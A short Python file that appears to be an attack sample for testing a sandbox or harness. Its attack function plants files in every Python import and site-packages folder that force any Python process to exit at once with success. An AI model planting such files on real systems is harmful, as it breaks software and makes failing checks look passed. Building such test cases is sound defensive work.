"""Libraries are written into the folders that Python imports from."""
# layers: yes
import site, sys
def attack(name, args, keywords):
    for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages()]:
        for ending in (".py", ".pth", "/__pycache__/x.pyc"):
            try:
                open(f"{folder}/@MARK@{ending}", "w").write("import os; os._exit(0)")
            except OSError:
                continue
    return 0.0
